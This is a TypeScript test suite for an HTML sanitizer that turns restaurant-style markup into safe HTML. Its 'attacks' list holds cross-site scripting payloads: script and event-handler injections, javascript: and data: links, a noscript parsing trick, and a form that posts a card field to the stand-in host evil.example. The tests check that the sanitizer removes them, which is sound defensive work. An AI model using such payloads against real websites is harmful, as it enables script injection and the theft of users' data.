import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { htmlOfLines } from './markup.ts'

test('converts markup headings, lists and links to HTML', () => {
  const source =
    '## Cancelling\nUntil the kitchen has begun.\n\n## Allergies\n- nuts\n- sesame & milk\n\nAsk **us**: [call](tel:+96522215486)'
  expect(cleanHtml(source)).toBe(
    [
      '<h2 id="section-1">Cancelling</h2>',
      '<p>Until the kitchen has begun.</p>',
      '<h2 id="section-2">Allergies</h2>',
      '<ul><li>nuts</li><li>sesame &amp; milk</li></ul>',
      '<p>Ask <strong>us</strong>: <a href="tel:+96522215486" rel="noopener noreferrer nofollow">call</a></p>',
    ].join('\n'),
  )
})

test('keeps paragraphs and line breaks, and escapes text that is not HTML', () => {
  expect(cleanHtml('One\ntwo\n\n3 < 5')).toBe('<p>One<br />two</p>\n<p>3 &lt; 5</p>')
  expect(cleanHtml('')).toBe('')
})

test('converts numbered lines to a list', () => {
  expect(cleanHtml('1. Order\n2) Eat')).toBe('<ol><li>Order</li><li>Eat</li></ol>')
})

test('keeps allowed HTML and lowers h1 to h2', () => {
  expect(cleanHtml('<h1 style="color:red" onclick="x()">Terms</h1><p>As <b>agreed</b></p>')).toBe(
    '<h2 id="section-1">Terms</h2><p>As <b>agreed</b></p>',
  )
})

const attacks = [
  '<p>Hi</p><script>steal()</script>',
  '<p onmouseover="steal()">Hi</p>',
  '<p>Hi<img src=x onerror=steal()></p>',
  '<a href="javascript:steal()">Hi</a>',
  '<a href="JaVaScRiPt&colon;steal()">Hi</a>',
  '<a href="data:text/html,<script>steal()</script>">Hi</a>',
  '<p>Hi<svg><animate onbegin=steal() attributeName=x></svg></p>',
  '<p>Hi</p><iframe srcdoc="<script>steal()</script>"></iframe>',
  '<p>Hi</p><style>@import "//evil.example"</style>',
  '<p>Hi</p><form action="//evil.example"><input name=card></form>',
  '[Hi](javascript:steal())',
  '<p>Hi <noscript><p title="</noscript><img src=x onerror=steal()>">',
]

test.each(attacks)('removes scripts, loaded resources and unsafe links: %s', (attack) => {
  const clean = cleanHtml(attack)
  expect(clean).toContain('Hi')
  expect(clean).not.toMatch(
    /<(?:script|style|img|svg|iframe|form|input|noscript)|\son\w+=|javascript|data:|steal\(\)<\/script/i,
  )
})

test('converts a text of many short blocks', () => {
  expect(cleanHtml('- a\nb\n'.repeat(3333))).toBe(
    Array.from({ length: 3333 }, () => '<ul><li>a</li></ul>\n<p>b</p>').join('\n'),
  )
})

test('reads each line once, so the time is linear in the length of the text', () => {
  let reads = 0
  const lines = function* () {
    for (let number = 0; number < 5_000; number += 1) {
      reads += 1
      yield ['- a', 'b', '', '# c', '1. d'][number % 5] ?? ''
    }
  }
  htmlOfLines(lines())
  expect(reads).toBe(5_000)
})

test('returns at most ten characters per character of markup', () => {
  const unit = fc.constantFrom('- a\n', 'b\n', '#\t"\n', '**a', '[a](b)', '&', '*a*', '1. a\n')
  fc.assert(
    fc.property(fc.string({ unit, minLength: 10, maxLength: 2_000 }), (source) => {
      expect(cleanHtml(source).length).toBeLessThanOrEqual(10 * source.length + 100)
    }),
  )
})

test('removes elements deeper than 20 levels and text beyond 200,000 characters', () => {
  const nested = cleanHtml(`${'<ul><li>'.repeat(16_000)}deep`)
  expect(nested.split('<ul><li>')).toHaveLength(11)
  expect(nested).toContain('deep')
  expect(cleanHtml('a'.repeat(300_000))).toHaveLength(200_007)
})

test('returns sanitized HTML unchanged', () => {
  const once = cleanHtml('## Allergies\n- nuts & milk\n\n**Call** [us](tel:+965)')
  expect(cleanHtml(once)).toBe(once)
})

test('returns only allowed tags for any input', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...attacks,
      '<',
      '>',
      '"',
      '&',
      '## ',
      '- ',
      '\n',
      '\n\n',
      '<p>',
      '</p>',
      '<h2>',
      '</',
      '[a](',
      ')',
    ),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const clean = cleanHtml(pieces.join(''))
      expect(clean).not.toMatch(
        /<(?!\/?(?:h[234]|p|br|hr|blockquote|ul|ol|li|strong|b|em|i|u|s|a|table|thead|tbody|tr|th|td)\b)/,
      )
    }),
  )
})
